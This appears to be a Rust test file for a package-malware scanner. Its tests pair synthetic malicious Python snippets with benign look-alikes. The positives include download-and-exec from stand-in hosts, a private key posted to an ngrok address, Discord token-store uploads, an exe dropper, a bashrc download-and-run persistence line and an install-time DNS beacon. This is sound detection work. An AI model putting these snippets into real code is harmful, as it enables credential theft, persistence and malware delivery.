//! Recall rules of issue #12: behaviour one function call away from the
//! top level, code in shipped folders that are not importable, droppers
//! whose steps sit in separate helpers, and build steps that run code out
//! of review. Each behaviour has a synthetic positive and a benign
//! look-alike that must stay quiet.

mod support;

use support::*;

use airlock_inspect::Severity;
use Severity::{Critical, High, Low};

// ---------------------------------------------------------------- functions the top level runs

#[test]
fn a_network_call_in_a_function_the_top_level_calls_runs_on_import() {
    // (A fetch that sends: one that only downloads and uses the answer is medium, see what_a_build_runs.rs.)
    let r = module(
        "import requests\ndef fetch():\n    return requests.post('https://cdn.example.net/u', data={'v': 1}).json()\ndef main():\n    fetch()\nmain()\n",
    );
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(3, High)]);
}

#[test]
fn a_function_called_under_the_main_guard_or_never_does_not_run_on_import() {
    let r = module(
        "import requests\ndef fetch():\n    return requests.get('https://cdn.example.net/u').json()\ndef main():\n    fetch()\nif __name__ == '__main__':\n    main()\n",
    );
    none(&r, "access/network-on-install");
}

#[test]
fn a_thread_started_on_import_runs_its_target_on_import() {
    let r =
        module("import threading, requests\ndef beacon():\n    requests.post('https://t.example.net/i', data={})\nthreading.Thread(target=beacon).start()\n");
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(3, High)]);
}

#[test]
fn exit_handlers_and_command_line_scripts_do_not_run_on_import() {
    let r = module("import atexit, subprocess\ndef cleanup():\n    subprocess.run(['cmd', '/c', 'rd', 'x'])\natexit.register(cleanup)\n");
    none(&r, "access/process-on-install");
    let script = module(
        "import argparse, subprocess\ndef build(n):\n    subprocess.call('cscript //nologo v.vbs ' + n)\np = argparse.ArgumentParser()\na = p.parse_args()\nbuild(a.name)\n",
    );
    assert!(hits(&script, "access/process-on-install", MOD).iter().all(|(line, _)| *line != 3));
}

// ---------------------------------------------------------------- exec of what a downloader prints

#[test]
fn exec_of_a_curl_output_is_download_exec() {
    let r = module("import subprocess\ndef go():\n    exec(subprocess.getoutput('curl -s https://x.example.net/p.py'))\n");
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(3, Critical)]);
}

#[test]
fn exec_of_a_local_command_output_is_not_download_exec() {
    let r = module("import subprocess\ndef go():\n    exec(subprocess.getoutput('cat settings.py'))\n");
    none(&r, "payload/download-exec");
}

// ---------------------------------------------------------------- tunnels

#[test]
fn a_private_key_sent_to_a_newer_ngrok_domain_is_an_exfil_flow() {
    let r = module("import requests\ndef perm(private_key):\n    requests.post('https://a-b-c.ngrok-free.dev/tron', json={'k': private_key})\n");
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(3, High)]);
}

// ---------------------------------------------------------------- shipped folders

const TOOL_METADATA: &str = "Metadata-Version: 2.1\nName: api-tool\nVersion: 1.0\nSummary: x\nAuthor: A\n";

#[test]
fn a_project_folder_with_a_hyphen_under_src_is_shipped_code() {
    let r = sdist_named("api-tool-1.0", TOOL_METADATA, &[("src/api-tool/__main__.py", "import requests\nrequests.get('https://cdn.example.net/x')\n")]);
    assert_eq!(hits(&r, "access/network-on-install", "api-tool-1.0/src/api-tool/__main__.py"), [(2, High)]);
}

#[test]
fn a_tools_folder_of_an_sdist_is_still_not_shipped() {
    let r = sdist_named("api-tool-1.0", TOOL_METADATA, &[("tools/release.py", "import requests\nrequests.get('https://cdn.example.net/x')\n")]);
    none(&r, "access/network-on-install");
}

#[test]
fn a_package_named_as_the_project_is_not_a_test_folder_even_with_test_in_its_name() {
    let meta = "Metadata-Version: 2.1\nName: acme_test\nVersion: 1.0\nSummary: x\nAuthor: A\n";
    let code = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    let r = sdist_named("acme_test-1.0", meta, &[("acme_test/__init__.py", ""), ("acme_test/res.py", code), ("tests/test_res.py", code)]);
    assert_eq!(hits(&r, "payload/exec-decoded", "acme_test-1.0/acme_test/res.py"), [(2, Critical)]);
    // Real tests still count two levels less.
    assert_eq!(hits(&r, "payload/exec-decoded", "acme_test-1.0/tests/test_res.py"), [(2, Severity::Medium)]);
}

// ---------------------------------------------------------------- build steps out of review

#[test]
fn setup_py_importing_code_out_of_a_shipped_zip_is_high() {
    let r = setup_py(
        "import zipimport\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        m = zipimport.zipimporter('my.zip').load_module('my')\n        install.run(self)\nsetup(cmdclass={'install': I})\n",
    );
    assert_eq!(hits(&r, "payload/disguised-module", SETUP), [(6, High)]);
}

#[test]
fn a_module_importing_plugins_from_a_zip_at_run_time_is_not_disguised() {
    let r = module("import zipimport\ndef load(path):\n    return zipimport.zipimporter('plugins.zip').load_module('p')\n");
    none(&r, "payload/disguised-module");
}

#[test]
fn a_module_starting_a_python_program_on_import_is_high() {
    let r = module("import subprocess\nsubprocess.Popen(['python3', '-c', 'import helper'], close_fds=True)\n");
    assert_eq!(hits(&r, "access/process-on-install", MOD), [(2, High)]);
}

#[test]
fn setup_py_asking_python_for_an_include_path_is_a_low_build_step() {
    let r = setup_py("import subprocess, sys\nfrom setuptools import setup\ninc = subprocess.check_output([sys.executable, '-c', 'import numpy; print(numpy.get_include())'])\nsetup()\n");
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(3, Low)]);
}

// ---------------------------------------------------------------- theft through cloud uploads

#[test]
fn a_token_store_named_in_a_file_that_uploads_to_a_cloud_drive_is_high() {
    let r = module(
        "import os\npath = os.getenv('appdata') + '\\\\discord\\\\Local Storage\\\\leveldb\\\\'\ndef up(client):\n    for name in os.listdir(path):\n        client.files_upload(open(path + name, 'rb').read(), '/x')\n",
    );
    assert_eq!(hits(&r, "access/credentials", MOD), [(2, High)]);
}

// ---------------------------------------------------------------- droppers in helpers

#[test]
fn a_curl_download_of_an_exe_started_by_another_helper_is_a_dropper() {
    let r = module(
        "import os, subprocess, urllib.request\ndef where():\n    return urllib.request.urlopen('https://x.example.net/a').read().decode()\ndef save(url):\n    path = f\"C:\\\\Users\\\\{os.getenv('username')}\\\\Temp\\\\Bin.exe\"\n    subprocess.call(f'curl -o {path} {url}')\n    return path\ndef run(path):\n    os.system(f'start {path}')\n",
    );
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(9, High)]);
}

#[test]
fn a_curl_download_of_data_is_not_a_dropper() {
    let r = module(
        "import subprocess, urllib.request\ndef where():\n    return urllib.request.urlopen('https://x.example.net/a').read()\ndef save(url):\n    subprocess.call(f'curl -o data.tar.gz {url}')\n    subprocess.call(['tar', 'xzf', 'data.tar.gz'])\n",
    );
    none(&r, "payload/download-exec");
}

#[test]
fn a_script_downloaded_then_run_by_bash_is_a_dropper() {
    let r = module(
        "import subprocess, urllib.request\ndef go(url):\n    path = '/tmp/s.sh'\n    urllib.request.urlretrieve(url, path)\n    subprocess.run(['/bin/bash', path, '--quiet'])\n",
    );
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(5, High)]);
}

#[test]
fn a_download_next_to_running_the_project_own_script_is_not_a_dropper() {
    let r = module(
        "import subprocess, urllib.request\ndef go(url):\n    data = '/tmp/d.json'\n    urllib.request.urlretrieve(url, data)\n    subprocess.run(['/bin/bash', 'build.sh', data])\n",
    );
    none(&r, "payload/download-exec");
}

// ---------------------------------------------------------------- DNS beacons

#[test]
fn an_install_override_looking_up_a_constant_host_kept_in_a_variable_is_a_beacon() {
    let r = setup_py(
        "import socket\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        host = 'acme-poc.abc123.oast.example'\n        socket.gethostbyname(host)\n        install.run(self)\nsetup(cmdclass={'install': I})\n",
    );
    assert_eq!(hits(&r, "access/exfil-flow", SETUP), [(7, High)]);
}

#[test]
fn a_lookup_whose_answer_is_kept_is_no_beacon() {
    let r = setup_py("import socket\nfrom setuptools import setup\nhost = 'mirror.acme.example.com'\nip = socket.gethostbyname(host)\nsetup()\n");
    none(&r, "access/exfil-flow");
}

// ---------------------------------------------------------------- shell start-up files

#[test]
fn a_download_and_run_command_appended_to_bashrc_is_high_in_any_function() {
    let r = module(
        "import os\ndef reset():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('wget https://x.example.net/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n",
    );
    assert_eq!(hits(&r, "access/persistence", MOD), [(3, High)]);
}

#[test]
fn a_completion_line_appended_to_bashrc_in_a_function_is_medium() {
    let r = module(
        "import os\ndef enable():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('eval \"$(register-python-argcomplete acme)\"')\n",
    );
    assert_eq!(hits(&r, "access/persistence", MOD), [(3, Severity::Medium)]);
}

// ---------------------------------------------------------------- look-alike letters

#[test]
fn names_spelled_in_math_letters_are_read_as_python_reads_them() {
    let r = setup_py("𝗶𝗺𝗽𝗼𝗿𝘁 𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀\nfrom setuptools import setup\n𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀.get('https://x.example.net/i')\nsetup()\n");
    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(3, High)]);
}

#[test]
fn accented_names_and_text_are_left_alone() {
    let r = setup_py("from setuptools import setup\nrésumé = 'naïve ｓｅｔｕｐ'\nsetup(description=résumé)\n");
    none(&r, "access/network-on-install");
    none(&r, "access/process-on-install");
}

// ---------------------------------------------------------------- uploads to hidden addresses

#[test]
fn files_posted_to_an_address_decoded_in_the_send_are_an_exfil_flow() {
    let r = module(
        "import base64, aiohttp\nADDR = 'aHR0cDovL3guZXhhbXBsZS5uZXQvdXA='\nasync def send(path):\n    form = aiohttp.FormData()\n    form.add_field('file', open(path, 'rb'))\n    async with aiohttp.ClientSession() as s:\n        await s.post(base64.b64decode(ADDR).decode(), data=form)\n",
    );
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(7, High)]);
}

#[test]
fn a_fetch_from_a_decoded_address_sends_nothing() {
    let r = module(
        "import base64, requests\ndef config():\n    return requests.get(base64.b64decode('aHR0cDovL3guZXhhbXBsZS5uZXQvYw==').decode(), timeout=5).json()\n",
    );
    none(&r, "access/exfil-flow");
}

// ---------------------------------------------------------------- pickles kept as constants

#[test]
fn unpickling_a_blob_written_into_the_code_is_exec_decoded() {
    let blob = "\\x78\\xda".repeat(30);
    let r = module(&format!("import pickle, zlib\ndef go():\n    pickle.loads(zlib.decompress(b'{blob}'))\n"));
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(3, Critical)]);
}

#[test]
fn unpickling_a_cached_value_is_not_exec_decoded() {
    let r = module("import pickle, zlib\ndef load(row):\n    return pickle.loads(zlib.decompress(row['data']))\n");
    none(&r, "payload/exec-decoded");
}

#[test]
fn a_module_constant_computed_by_a_local_function_does_not_make_it_import_time_work() {
    let r = module("import requests\ndef latest():\n    return requests.get('https://api.example.net/v').json()['v']\nLATEST = latest()\n");
    // The top-level line itself reaches the network only through the helper: nothing inside `latest` is flagged.
    assert!(hits(&r, "access/network-on-install", MOD).iter().all(|(line, _)| *line != 3));
}
